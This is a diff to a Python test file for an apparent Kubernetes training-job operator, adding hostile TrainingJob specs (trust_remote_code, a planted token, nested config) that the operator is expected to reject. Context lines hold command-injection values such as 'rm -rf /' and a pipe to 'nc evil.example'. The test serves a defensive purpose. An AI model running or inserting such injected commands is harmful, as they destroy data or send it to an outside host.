@@ -289,6 +289,12 @@ HOSTILE = [
     ("model-name-huge", {"model": {"name": "a" * 100_000, "task": "sequence-classification"}}, "spec.model.name"),
     ("tokenizer-and", {"model": {"config": {"model_type": "bert"}, "tokenizer": "t && curl x",
                                  "task": "sequence-classification"}}, "spec.model.tokenizer"),
+    ("config-remote-code", {"model": {"config": {"model_type": "bert", "trust_remote_code": True}, "tokenizer": "t",
+                                      "task": "sequence-classification"}}, "spec.model.config"),
+    ("config-token", {"model": {"name": "x", "config": {"token": "hf_stolen"}, "task": "sequence-classification"}},
+     "spec.model.config"),
+    ("config-nested", {"model": {"name": "x", "config": {"rope_scaling": {"a": {"b": {"c": 1}}}},
+                                 "task": "sequence-classification"}}, "spec.model.config.rope_scaling"),
     ("data-missing", {"data": None}, "spec.data"),
     ("train-injection", {"data": {"train": "x.jsonl; rm -rf /"}}, "spec.data.train"),
     ("train-pipe", {"data": {"train": "x.jsonl | nc evil.example 1"}}, "spec.data.train"),
@@ -360,7 +366,8 @@ def test_hostile_jobs_are_each_failed_naming_the_field_with_no_pod_and_the_opera
     for name in names.values():  # Failed jobs stay until deleted; the later scenarios need no extra load
         cluster.custom_api().delete_namespaced_custom_object("kubetrain.io", "v1alpha1", NS, "trainingjobs", name)
     record("hostile-jobs", f"{len(HOSTILE)} malformed or hostile TrainingJobs: wrong types, huge numbers, NaN/Infinity, "
-           "shell injection in image/paths/secret/endpoint, a name that cannot be a hostname",
+           "shell injection in image/paths/secret/endpoint, a name that cannot be a hostname, loader options "
+           "(trust_remote_code, token) and nested values in model.config",
            "each Failed (InvalidSpec) naming its field; 0 pods created; the operator kept running", 0, "-",
            time.monotonic() - started)
 
